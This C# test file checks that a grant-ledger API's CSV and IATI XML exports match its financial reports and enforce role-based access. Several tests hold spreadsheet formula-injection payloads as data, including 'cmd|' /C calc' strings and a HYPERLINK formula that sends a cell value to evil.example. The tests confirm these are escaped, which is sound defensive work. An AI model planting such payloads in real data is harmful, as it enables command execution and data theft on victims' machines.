using System.Globalization;
using System.Text;
using System.Xml.Linq;
using CsvHelper;
using GrantLedger.Api.Reports;
using GrantLedger.Reports.Models;
using Marten;
using Microsoft.Extensions.DependencyInjection;
using NodaTime;
using NodaTime.Text;

namespace GrantLedger.Api.Tests;

/// <summary>CSV exports and the IATI file: the same figures as the reports for the same instant, for the same people.</summary>
[Collection(LedgerCollection.Name)]
public class ExportTests(LedgerHost host) : FromStartOfTime(host.Clock)
{
    private readonly Ledger _ledger = new(host);

    /// <summary>An hour after the demo was seeded; a test reading the demo as of it puts the clock an hour later still.</summary>
    private static readonly Instant AfterDemo = LedgerHost.DemoSeeded + Duration.FromHours(1);

    private static string Iso(Instant instant) => InstantPattern.ExtendedIso.Format(instant);

    private async Task<(int Status, string? ContentType, string? FileName, byte[] Body)> Download(string url, string user = "finance")
    {
        using var response = await host.Download(url, user);
        return ((int)response.StatusCode, response.Content.Headers.ContentType?.ToString(), response.Content.Headers.ContentDisposition?.FileName,
            await response.Content.ReadAsByteArrayAsync());
    }

    private async Task<List<Dictionary<string, string>>> Csv(string url, string user = "finance")
    {
        var (status, _, _, body) = await Download(url, user);
        Assert.True(status == 200, $"{url}: {status} {Encoding.UTF8.GetString(body)}");
        using var reader = new CsvReader(new StreamReader(new MemoryStream(body), Encoding.UTF8), CultureInfo.InvariantCulture);
        var rows = new List<Dictionary<string, string>>();
        await reader.ReadAsync();
        reader.ReadHeader();
        while (await reader.ReadAsync())
        {
            rows.Add(reader.HeaderRecord!.ToDictionary(h => h, h => reader.GetField(h) ?? ""));
        }

        return rows;
    }

    private static decimal Sum(IEnumerable<Dictionary<string, string>> rows, string column) =>
        rows.Where(r => r[column].Length > 0).Sum(r => decimal.Parse(r[column], NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture));

    /// <summary>The programme financial report's model as the PDF would show it for the instant.</summary>
    private async Task<ProgrammeFinancialModel> Report(Guid programmeId, Instant asOf)
    {
        await using var session = host.Store.QuerySession();
        var scope = new ReportScope(ReportKind.ProgrammeFinancial, programmeId, null, null, null, asOf);
        return (ProgrammeFinancialModel)ReportBuilder.Model(scope, await ReportBuilder.EventsAsOf(session, asOf, CancellationToken.None)).Model;
    }

    private async Task<Guid> DemoProgramme() =>
        Guid.Parse((await host.Get("/api/programmes")).Json.AsArray().Single(p => p!.Text("code") == "SOS-CA-1")!.Text("id"));

    /// <summary>So that <see cref="AfterDemo"/> is not in the future.</summary>
    private void ClockAfterTheDemo() => host.Clock.Reset(AfterDemo + Duration.FromHours(1));

    [Fact]
    public async Task the_ledger_entries_csv_adds_up_to_the_reports_disbursed_figure_as_of_the_same_instant()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 1, 6, 0));
        var programme = await _ledger.OpenProgramme();
        var grant = await _ledger.Award(programme, 50_000m);
        await _ledger.Disburse(grant, 10_000m);
        var wrong = await _ledger.Disburse(grant, 2_500m);
        Assert.Equal(201, (await _ledger.TryReverse(grant, wrong)).Status);
        host.Clock.Advance(Duration.FromMinutes(5));
        var asOf = host.Clock.GetCurrentInstant();
        host.Clock.Advance(Duration.FromMinutes(5));
        await _ledger.Disburse(grant, 7_000m);

        var rows = await Csv($"/api/exports/ledger-entries.csv?programmeId={programme}&asOf={Iso(asOf)}");

        Assert.Equal(["disbursement", "disbursement", "reversal"], rows.Select(r => r["entry"]));
        Assert.Equal("-2500.00", rows[2]["amount"]);
        Assert.Equal(rows[1]["disbursementId"], rows[2]["disbursementId"]);
        Assert.Equal(10_000m, Sum(rows, "amount"));
        Assert.Equal((await Report(programme, asOf)).Disbursed, Sum(rows, "amount"));
        Assert.Equal(17_000m, Sum(await Csv($"/api/exports/ledger-entries.csv?programmeId={programme}"), "amount"));
    }

    [Fact]
    public async Task a_payment_awaiting_approval_is_not_a_ledger_entry_until_a_second_person_approves_it()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 2, 6, 0));
        var programme = await _ledger.OpenProgramme(approvalThreshold: 10_000m);
        var grant = await _ledger.Award(programme, 50_000m);
        var pending = (await _ledger.TryDisburse(grant, 12_000m)).Id;
        Assert.Empty(await Csv($"/api/exports/ledger-entries.csv?grantId={grant}"));

        Assert.Equal(201, (await host.Post($"/api/grants/{grant}/disbursements/{pending}/approval", new { }, user: "approver")).Status);

        var row = Assert.Single(await Csv($"/api/exports/ledger-entries.csv?grantId={grant}"));
        Assert.Equal("12000.00", row["amount"]);
        Assert.Equal("2020-05-04", row["valueDate"]);
        Assert.NotEqual("", row["approvedBy"]);
    }

    [Fact]
    public async Task on_the_demo_the_expenditure_and_budget_csv_totals_equal_the_programme_report()
    {
        ClockAfterTheDemo();
        var programme = await DemoProgramme();
        var report = await Report(programme, AfterDemo);
        var expenditure = await Csv($"/api/exports/expenditure.csv?programmeId={programme}&asOf={Iso(AfterDemo)}");
        var budget = await Csv($"/api/exports/budget-vs-actual.csv?programmeId={programme}&asOf={Iso(AfterDemo)}");
        var ledger = await Csv($"/api/exports/ledger-entries.csv?programmeId={programme}&asOf={Iso(AfterDemo)}");

        // The README's demo tables, summed by hand: paid 64,000.00 + 28,000.00 + 12,000.00; spent at the donor rate
        // 36,751.91 + 24,233.27 + 6,119.19, at the actual rate 38,525.08 + 25,885.54 + 6,218.14, FX difference
        // 1,773.17 + 1,652.27 + 98.95; budgets as large as the grants, 80,000.00 + 70,000.00 + 60,000.00.
        Assert.Equal((104_000.00m, 104_000.00m), (report.Disbursed, Sum(ledger, "amount")));
        Assert.Equal((67_104.37m, 67_104.37m, 67_104.37m),
            (report.Grantees.Sum(g => g.SpentAtDonorRate), Sum(expenditure, "spentEurAtDonorRate"), Sum(budget, "spentAtDonorRate")));
        Assert.Equal((70_628.76m, 70_628.76m), (report.Headings.Sum(h => h.SpentAtActualRate), Sum(expenditure, "spentEurAtActualRate")));
        Assert.Equal((3_524.39m, 3_524.39m, 3_524.39m),
            (report.Grantees.Sum(g => g.FxDifference), Sum(expenditure, "fxDifference"), Sum(budget, "fxDifference")));
        Assert.Equal((210_000.00m, 210_000.00m), (report.Headings.Sum(h => h.Planned), Sum(budget, "planned")));
        Assert.Contains(expenditure, r => r["status"] == "rejected" && r["spentEurAtDonorRate"] == "" && r["reason"].Length > 0);
        Assert.Contains(expenditure, r => r["status"] == "ineligible");
        Assert.Contains(expenditure, r => r["currency"] == "KGS" && r["amount"].Contains('.') && !r["amount"].Contains(','));
    }

    /// <summary>Σ credit − Σ debit on one account over journal lines.</summary>
    private static decimal Net(IEnumerable<Dictionary<string, string>> journal, string account) =>
        Sum(journal.Where(l => l["account"] == account), "credit") - Sum(journal.Where(l => l["account"] == account), "debit");

    [Fact]
    public async Task the_journal_balances_every_entry_and_agrees_with_the_ledger_csv_and_the_programme_report_as_of_the_same_instant()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 3, 6, 0));
        var programme = await _ledger.OpenProgramme(approvalThreshold: 20_000m);
        var grant = await _ledger.Award(programme, 50_000m);
        var other = await _ledger.Award(programme, 30_000m);
        await _ledger.Disburse(grant, 10_000m);
        var wrong = await _ledger.Disburse(other, 2_500m);
        Assert.Equal(201, (await _ledger.TryReverse(other, wrong)).Status);
        var large = (await _ledger.TryDisburse(grant, 25_000m)).Id;
        Assert.Equal(201, (await host.Post($"/api/grants/{grant}/disbursements/{large}/approval", new { }, user: "approver")).Status);
        await _ledger.TryDisburse(other, 21_000m); // awaits approval: reserved, not paid, not in the books
        host.Clock.Advance(Duration.FromMinutes(5));
        var asOf = host.Clock.GetCurrentInstant();
        host.Clock.Advance(Duration.FromMinutes(5));
        await _ledger.Disburse(grant, 1_000m);

        var journal = await Csv($"/api/exports/journal.csv?programmeId={programme}&asOf={Iso(asOf)}", user: "auditor");
        var ledger = await Csv($"/api/exports/ledger-entries.csv?programmeId={programme}&asOf={Iso(asOf)}");
        var report = await Report(programme, asOf);

        Assert.All(journal.GroupBy(l => l["entry"]), entry => Assert.Equal(Sum(entry, "debit"), Sum(entry, "credit")));
        Assert.Equal(Sum(journal, "debit"), Sum(journal, "credit"));
        Assert.Equal((35_000m, 35_000m, 35_000m), (Net(journal, "1010"), Sum(ledger, "amount"), report.Disbursed));
        Assert.Equal((80_000m, 80_000m), (-Net(journal, "5100"), report.Committed));
        Assert.Equal(report.Committed - report.Disbursed, Net(journal, "2100"));
        // Every line names the event it comes from, and the accountant's columns are all there.
        Assert.All(journal, l => Assert.True(Guid.TryParse(l["eventId"], out _) && long.Parse(l["sequence"], CultureInfo.InvariantCulture) > 0));
        Assert.Equal(["commitment", "commitment", "disbursement", "disbursement", "reversal", "disbursement"],
            journal.Where(l => l["debit"] != "0.00").Select(l => l["kind"]));
    }

    [Fact]
    public async Task the_journal_of_a_period_holds_the_entries_booked_in_it_and_periods_add_up_to_the_whole()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 4, 6, 0));
        var programme = await _ledger.OpenProgramme();
        var grant = await _ledger.Award(programme, 50_000m);
        Assert.Equal(201, (await _ledger.TryDisburse(grant, 4_000m, valueDate: "2020-05-04")).Status);
        Assert.Equal(201, (await _ledger.TryDisburse(grant, 6_000m, valueDate: "2020-06-10")).Status);

        var may = await Csv($"/api/exports/journal.csv?programmeId={programme}&from=2020-05-01&to=2020-06-01");
        var june = await Csv($"/api/exports/journal.csv?programmeId={programme}&from=2020-06-01&to=2020-07-01");
        var whole = await Csv($"/api/exports/journal.csv?programmeId={programme}");

        Assert.Equal((4_000m, 4_000m), (Sum(may, "debit"), Sum(may, "credit")));
        Assert.Equal((6_000m, 6_000m), (Sum(june, "debit"), Sum(june, "credit")));
        Assert.All(may, l => Assert.StartsWith("2020-05-", l["date"]));
        // The commitment was booked on the day it was recorded (2021-06-04), outside both months.
        Assert.Equal(60_000m, Sum(whole, "debit"));
    }

    [Fact]
    public async Task on_the_demo_the_journal_agrees_with_the_programme_report()
    {
        ClockAfterTheDemo();
        var programme = await DemoProgramme();
        var report = await Report(programme, AfterDemo);
        var journal = await Csv($"/api/exports/journal.csv?programmeId={programme}&asOf={Iso(AfterDemo)}");

        Assert.Equal(Sum(journal, "debit"), Sum(journal, "credit"));
        Assert.Equal((report.Disbursed, report.Committed), (Net(journal, "1010"), -Net(journal, "5100")));
        // The demo's grantees confirmed receipts in local currency with rates for their months: FX differences are booked.
        Assert.Contains(journal, l => l["kind"] == "fx-difference");
    }

    [Fact]
    public async Task grantees_cannot_export_the_journal_not_even_for_their_own_grant()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 5, 6, 0));
        var grantee = "Journal Trust " + Guid.NewGuid().ToString("N")[..6];
        var grant = await _ledger.Award(await _ledger.OpenProgramme(), 10_000m, grantee: grantee);

        var (status, _, _, body) = await Download($"/api/exports/journal.csv?grantId={grant}", await host.GranteeUser(grantee));

        Assert.Equal(403, status);
        Assert.DoesNotContain("2100", Encoding.UTF8.GetString(body));
    }

    [Fact]
    public async Task the_csv_is_utf8_rfc4180_with_a_bom_only_when_asked_and_a_file_name_with_its_instant()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 3, 6, 0));
        var grant = await _ledger.GrantOf(20_000m);
        await host.Post($"/api/grants/{grant}/disbursements", new
        {
            amount = 1_234.5m, valueDate = "2020-05-04", reference = "ECARO, \"Кыргызстан\" 7", note = "=SUM(A1:A9) first line\nsecond line",
        }, new Dictionary<string, string> { ["Idempotency-Key"] = Guid.NewGuid().ToString() });
        var asOf = host.Clock.GetCurrentInstant();

        var plain = await Download($"/api/exports/ledger-entries.csv?grantId={grant}&asOf={Iso(asOf)}");
        var excel = await Download($"/api/exports/ledger-entries.csv?grantId={grant}&asOf={Iso(asOf)}&bom=true");

        Assert.Equal("text/csv; charset=utf-8", plain.ContentType);
        Assert.Equal($"ledger-entries-grant-{grant.ToString("N")[..8]}-as-of-20210603T060000Z.csv", plain.FileName);
        Assert.NotEqual(0xEF, plain.Body[0]);
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), excel.Body[..3]);
        var text = Encoding.UTF8.GetString(plain.Body);
        Assert.StartsWith("sequence,recordedAt,", text);
        Assert.Contains("\r\n", text);
        Assert.Contains("\"ECARO, \"\"Кыргызстан\"\" 7\"", text);
        var row = Assert.Single(await Csv($"/api/exports/ledger-entries.csv?grantId={grant}&asOf={Iso(asOf)}&bom=true"));
        Assert.Equal("1234.50", row["amount"]);
        Assert.Equal("ECARO, \"Кыргызстан\" 7", row["bankReference"]);
        Assert.Equal("'=SUM(A1:A9) first line\nsecond line", row["note"]);
    }

    [Fact]
    public async Task a_payment_note_starting_with_a_minus_reaches_the_spreadsheet_as_text_while_a_reversal_stays_a_negative_number()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 4, 6, 0));
        var grant = await _ledger.GrantOf(20_000m);
        // What a hostile user types to get a formula run on the auditor's machine (Excel treats a leading '-' as one).
        var paid = await host.Post($"/api/grants/{grant}/disbursements", new
        {
            amount = 2_500m, valueDate = "2020-05-04", reference = "-1+1", note = "-2+3+cmd|' /C calc'!A0",
        }, new Dictionary<string, string> { ["Idempotency-Key"] = Guid.NewGuid().ToString() });
        Assert.Equal(201, (await _ledger.TryReverse(grant, paid.Id, "Keyed against the wrong grant")).Status);

        var rows = await Csv($"/api/exports/ledger-entries.csv?grantId={grant}");

        Assert.Equal("'-2+3+cmd|' /C calc'!A0", rows[0]["note"]);
        Assert.Equal("'-1+1", rows[0]["bankReference"]);
        Assert.Equal("2500.00", rows[0]["amount"]);
        Assert.Equal("-2500.00", rows[1]["amount"]);
    }

    /// <summary>Every start a spreadsheet runs as a formula (OWASP's list: = + - @ tab CR), typed by a hostile user into a text cell.</summary>
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-1+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+cmd|' /C calc'!A0")]
    [InlineData("\r=1+cmd|' /C calc'!A0")]
    public async Task a_text_cell_that_starts_like_a_formula_reaches_the_spreadsheet_as_text(string hostile)
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 4, 6, 0));
        var grant = await _ledger.GrantOf(20_000m);
        var paid = await host.Post($"/api/grants/{grant}/disbursements", new
        {
            amount = 1_000m, valueDate = "2020-05-04", reference = hostile, note = hostile,
        }, new Dictionary<string, string> { ["Idempotency-Key"] = Guid.NewGuid().ToString() });
        Assert.Equal(201, paid.Status);

        var row = Assert.Single(await Csv($"/api/exports/ledger-entries.csv?grantId={grant}"));

        // A leading tab or CR is trimmed when the payment is recorded; what follows it is escaped all the same.
        foreach (var cell in new[] { row["note"], row["bankReference"] })
        {
            Assert.StartsWith("'", cell);
            Assert.Equal(hostile.TrimStart('\t', '\r'), cell[1..].TrimStart('\t', '\r'));
        }

        Assert.Equal("1000.00", row["amount"]);
    }

    [Fact]
    public async Task the_audit_trail_csv_lists_a_grants_events_in_the_period_with_who_and_why()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 4, 6, 0));
        var grant = await _ledger.GrantOf(20_000m);
        host.Clock.Advance(Duration.FromDays(1));
        var paid = await _ledger.Disburse(grant, 1_000m);
        await _ledger.TryReverse(grant, paid, "Paid to the wrong account");

        var rows = await Csv($"/api/exports/audit-trail.csv?grantId={grant}&from=2021-06-05", "auditor");
        var all = await Csv($"/api/exports/audit-trail.csv?grantId={grant}", "auditor");

        Assert.Equal(["disbursement_recorded", "disbursement_reversed"], rows.Select(r => r["eventType"]));
        Assert.Equal("Paid to the wrong account", rows[1]["reason"]);
        Assert.Equal("finance", rows[1]["role"]);
        // As GET /api/audit lists it: the grant's commitment, on the programme stream, first.
        Assert.Equal(["grant_committed", "grant_awarded"], all.Take(2).Select(r => r["eventType"]));
        Assert.True(all.Select(r => long.Parse(r["sequence"], CultureInfo.InvariantCulture)).SequenceEqual(all.Select(r => long.Parse(r["sequence"], CultureInfo.InvariantCulture)).Order()));
    }

    [Fact]
    public async Task a_grantee_exports_its_own_grant_but_another_grantees_is_not_found_and_programme_wide_exports_are_forbidden()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 5, 6, 0));
        var programme = await _ledger.OpenProgramme();
        var own = "Export Own Org " + Guid.NewGuid().ToString("N")[..6];
        var mine = await _ledger.Award(programme, 10_000m, own);
        var theirs = await _ledger.Award(programme, 10_000m);
        await _ledger.Disburse(mine, 1_000m);
        var grantee = await host.GranteeUser(own);

        Assert.Equal("1000.00", Assert.Single(await Csv($"/api/exports/ledger-entries.csv?grantId={mine}", grantee))["amount"]);
        Assert.Equal(200, (await Download($"/api/exports/budget-vs-actual.csv?grantId={mine}", grantee)).Status);
        Assert.Equal(404, (await host.Get($"/api/exports/ledger-entries.csv?grantId={theirs}", grantee)).Status);
        Assert.Equal(404, (await host.Get($"/api/exports/expenditure.csv?grantId={theirs}", grantee)).Status);
        Assert.Equal(403, (await host.Get($"/api/exports/ledger-entries.csv?programmeId={programme}", grantee)).Status);
        Assert.Equal(403, (await host.Get($"/api/exports/audit-trail.csv?grantId={mine}", grantee)).Status);
        Assert.Equal(403, (await host.Get($"/api/exports/iati.xml?programmeId={programme}", grantee)).Status);
    }

    [Theory]
    [InlineData("/api/exports/payslips.csv", 400, "malformed-request")]
    [InlineData("/api/exports/ledger-entries.csv?asOf=yesterday", 400, "malformed-request")]
    [InlineData("/api/exports/ledger-entries.csv?asOf=2099-01-01T00:00:00Z", 422, "as-of-in-future")]
    [InlineData("/api/exports/ledger-entries.csv?from=2021-02-30", 400, "malformed-request")]
    [InlineData("/api/exports/ledger-entries.csv?programmeId=not-an-id", 400, "malformed-request")]
    [InlineData("/api/exports/ledger-entries.csv?bom=yes", 400, "malformed-request")]
    [InlineData("/api/exports/audit-trail.csv?to=soon", 400, "malformed-request")]
    [InlineData("/api/exports/budget-vs-actual.csv?from=2021-01-01", 400, "malformed-request")]
    [InlineData("/api/exports/expenditure.csv?programmeId=00000000-0000-0000-0000-00000000beef", 404, "not-found")]
    [InlineData("/api/exports/expenditure.csv?grantId=00000000-0000-0000-0000-00000000beef", 404, "not-found")]
    [InlineData("/api/exports/iati.xml", 400, "malformed-request")]
    [InlineData("/api/exports/iati.xml?programmeId=00000000-0000-0000-0000-00000000beef", 404, "not-found")]
    [InlineData("/api/exports/iati.xml?programmeId=x&asOf=2021", 400, "malformed-request")]
    public async Task a_bad_export_request_is_a_problem_with_a_stable_code(string url, int status, string code)
    {
        var reply = await host.Get(url);

        Assert.True(reply.Status == status, reply.ToString());
        Assert.Equal("application/problem+json", reply.ContentType);
        Assert.Equal(code, reply.Code);
    }

    // ---- IATI ----

    private async Task<XDocument> Iati(Guid programme, Instant asOf)
    {
        var (status, contentType, fileName, body) = await Download($"/api/exports/iati.xml?programmeId={programme}&asOf={Iso(asOf)}");
        Assert.True(status == 200, Encoding.UTF8.GetString(body));
        Assert.Equal("application/xml; charset=utf-8", contentType);
        Assert.StartsWith("iati-activities-", fileName);
        return XDocument.Load(new MemoryStream(body));
    }

    private static IEnumerable<XElement> Transactions(XDocument file, string type) =>
        file.Descendants("transaction").Where(t => t.Element("transaction-type")!.Attribute("code")!.Value == type);

    private static decimal Value(XElement withValue) => decimal.Parse(withValue.Element("value")!.Value, CultureInfo.InvariantCulture);

    [Fact]
    public async Task the_iati_file_names_each_implementing_organisation_by_its_registered_legal_name_and_iati_identifier()
    {
        ClockAfterTheDemo();
        var file = await Iati(await DemoProgramme(), AfterDemo);

        var implementers = file.Root!.Elements("iati-activity").Where(a => a.Attribute("hierarchy")!.Value == "2")
            .Select(a => a.Elements("participating-org").Single(o => o.Attribute("role")!.Value == "4")).ToList();
        Assert.Equal(["XI-GRANTLEDGER-DEMO-SLC", "XI-GRANTLEDGER-DEMO-SLT", "XI-GRANTLEDGER-DEMO-WWB"],
            implementers.Select(o => o.Attribute("ref")!.Value).Order());
        Assert.Contains(implementers, o => o.Element("narrative")!.Value == "Snow Leopard Trust Public Foundation (Kyrgyz Republic office)"
            && o.Attribute("type")!.Value == "21");
    }

    [Fact]
    public async Task on_the_demo_the_iati_file_has_the_programme_as_parent_and_each_grant_as_a_child_linked_both_ways()
    {
        ClockAfterTheDemo();
        var programme = await DemoProgramme();
        var file = await Iati(programme, AfterDemo);

        Assert.Equal("2.03", file.Root!.Attribute("version")!.Value);
        var activities = file.Root.Elements("iati-activity").ToList();
        var parent = Assert.Single(activities, a => a.Attribute("hierarchy")!.Value == "1");
        var children = activities.Where(a => a.Attribute("hierarchy")!.Value == "2").ToList();
        Assert.Equal(3, children.Count);
        var reporting = parent.Element("reporting-org")!.Attribute("ref")!.Value;
        var parentId = parent.Element("iati-identifier")!.Value;
        Assert.Equal($"{reporting}-SOS-CA-1", parentId);
        Assert.All(activities, a =>
        {
            Assert.StartsWith(reporting + "-", a.Element("iati-identifier")!.Value);
            Assert.Equal("EUR", a.Attribute("default-currency")!.Value);
            Assert.Equal("41030", a.Element("sector")!.Attribute("code")!.Value);
            Assert.Equal("1", a.Element("sector")!.Attribute("vocabulary")!.Value);
            Assert.Equal("5", a.Element("policy-marker")!.Attribute("code")!.Value);
            Assert.Equal(100m, a.Elements("recipient-country").Sum(c => decimal.Parse(c.Attribute("percentage")!.Value, CultureInfo.InvariantCulture)));
            Assert.All(a.Descendants("value"), v => Assert.Matches(@"^\d{4}-\d{2}-\d{2}$", v.Attribute("value-date")!.Value));
            Assert.All(a.Descendants("value"), v => Assert.Matches(@"^-?\d+\.\d{2}$", v.Value));
            Assert.Equal(["1", "2"], a.Elements("participating-org").Select(o => o.Attribute("role")!.Value).Take(2));
            Assert.Contains(a.Elements("participating-org"), o => o.Attribute("role")!.Value == "4");
            Assert.All(a.Elements("budget"), b => Assert.True(
                Period.Between(LocalDatePattern.Iso.Parse(b.Element("period-start")!.Attribute("iso-date")!.Value).Value,
                    LocalDatePattern.Iso.Parse(b.Element("period-end")!.Attribute("iso-date")!.Value).Value.PlusDays(1), PeriodUnits.Months).Months <= 12));
        });
        Assert.Equal(children.Select(c => c.Element("iati-identifier")!.Value).Order(),
            parent.Elements("related-activity").Where(r => r.Attribute("type")!.Value == "2").Select(r => r.Attribute("ref")!.Value).Order());
        Assert.All(children, c => Assert.Equal(parentId, c.Elements("related-activity").Single(r => r.Attribute("type")!.Value == "1").Attribute("ref")!.Value));
        Assert.Equal(["KG", "KZ", "TJ"], parent.Elements("recipient-country").Select(c => c.Attribute("code")!.Value));
        Assert.Equal("54.76", parent.Elements("recipient-country").First().Attribute("percentage")!.Value);
        var conservancy = children.Single(c => c.Descendants("narrative").Any(n => n.Value == "Snow Leopard Conservancy Public Association"));
        Assert.Equal(["50.00", "50.00"], conservancy.Elements("recipient-country").Select(c => c.Attribute("percentage")!.Value));
        Assert.Equal(3, conservancy.Elements("planned-disbursement").Count());
        Assert.Equal(70_000m, conservancy.Elements("planned-disbursement").Sum(Value));
        Assert.Equal(70_000m, conservancy.Elements("budget").Sum(Value));
        Assert.Equal(220_000m, parent.Elements("budget").Sum(Value));
    }

    [Fact]
    public async Task on_the_demo_the_iati_transactions_equal_the_ledger_as_of_the_same_instant()
    {
        ClockAfterTheDemo();
        var programme = await DemoProgramme();
        var report = await Report(programme, AfterDemo);
        var file = await Iati(programme, AfterDemo);

        // As README.md's demo tables: 220,000.00 allocated, 210,000.00 committed, 104,000.00 paid, 67,104.37 spent.
        Assert.Equal((104_000.00m, 104_000.00m), (report.Disbursed, Transactions(file, "3").Sum(Value)));
        Assert.Equal((210_000.00m, 210_000.00m), (report.Committed, Transactions(file, "2").Sum(Value)));
        Assert.Equal((67_104.37m, 67_104.37m), (report.Grantees.Sum(g => g.SpentAtDonorRate), Transactions(file, "4").Sum(Value)));
        Assert.Equal((220_000.00m, 220_000.00m), (report.Allocation, Transactions(file, "11").Sum(Value)));
        // The reversed payment of the demo (2,800.00 to Snow Leopard Conservancy) is not a disbursement.
        Assert.DoesNotContain(Transactions(file, "3"), t => Value(t) == 2_800m);
        // Outgoing money only at the lowest level: the parent has no disbursement or expenditure.
        var parent = file.Root!.Elements("iati-activity").Single(a => a.Attribute("hierarchy")!.Value == "1");
        Assert.All(parent.Elements("transaction"), t => Assert.Equal("11", t.Element("transaction-type")!.Attribute("code")!.Value));
    }

    [Fact]
    public async Task the_iati_file_as_of_an_earlier_instant_leaves_out_a_later_payment_and_a_later_amendment()
    {
        host.Clock.Reset(Instant.FromUtc(2021, 6, 6, 6, 0));
        var programme = await _ledger.OpenProgramme();
        var grant = await _ledger.Award(programme, 30_000m);
        await _ledger.Disburse(grant, 5_000m);
        host.Clock.Advance(Duration.FromMinutes(5));
        var asOf = host.Clock.GetCurrentInstant();
        host.Clock.Advance(Duration.FromMinutes(5));
        await _ledger.Disburse(grant, 4_000m);

        var before = await Iati(programme, asOf);
        var now = await Iati(programme, host.Clock.GetCurrentInstant());

        Assert.Equal(5_000m, Transactions(before, "3").Sum(Value));
        Assert.Equal((await Report(programme, asOf)).Disbursed, Transactions(before, "3").Sum(Value));
        Assert.Equal(9_000m, Transactions(now, "3").Sum(Value));
        Assert.Equal(30_000m, Transactions(now, "2").Sum(Value));
    }

    /// <summary>The order of iati-activity's children in the 2.03 schema's xsd:sequence (names only; the schema itself is
    /// validated against in IatiSchemaTests, from ../shared/iati-2.03).</summary>
    private static readonly string[] ActivityOrder =
    [
        "iati-identifier", "reporting-org", "title", "description", "participating-org", "other-identifier", "activity-status", "activity-date",
        "contact-info", "activity-scope", "recipient-country", "recipient-region", "location", "sector", "tag", "country-budget-items",
        "humanitarian-scope", "policy-marker", "collaboration-type", "default-flow-type", "default-finance-type", "default-aid-type",
        "default-tied-status", "budget", "planned-disbursement", "capital-spend", "transaction", "document-link", "related-activity",
        "legacy-data", "conditions", "result", "crs-add", "fss",
    ];

    private static readonly Dictionary<string, string[]> ChildOrder = new()
    {
        ["transaction"] = ["transaction-type", "transaction-date", "value", "description", "provider-org", "receiver-org", "disbursement-channel",
            "sector", "recipient-country", "recipient-region", "flow-type", "finance-type", "aid-type", "tied-status"],
        ["budget"] = ["period-start", "period-end", "value"],
        ["planned-disbursement"] = ["period-start", "period-end", "value", "provider-org", "receiver-org"],
    };

    [Fact]
    public async Task the_iati_elements_come_in_the_order_the_2_03_schema_requires()
    {
        ClockAfterTheDemo();
        var file = await Iati(await DemoProgramme(), AfterDemo);

        foreach (var activity in file.Root!.Elements("iati-activity"))
        {
            var positions = activity.Elements().Select(e => Array.IndexOf(ActivityOrder, e.Name.LocalName)).ToList();
            Assert.DoesNotContain(-1, positions);
            Assert.Equal(positions.Order(), positions);
            foreach (var (parent, order) in ChildOrder)
            {
                foreach (var element in activity.Elements(parent))
                {
                    var inner = element.Elements().Select(e => Array.IndexOf(order, e.Name.LocalName)).ToList();
                    Assert.DoesNotContain(-1, inner);
                    Assert.Equal(inner.Order(), inner);
                }
            }
        }
    }
}
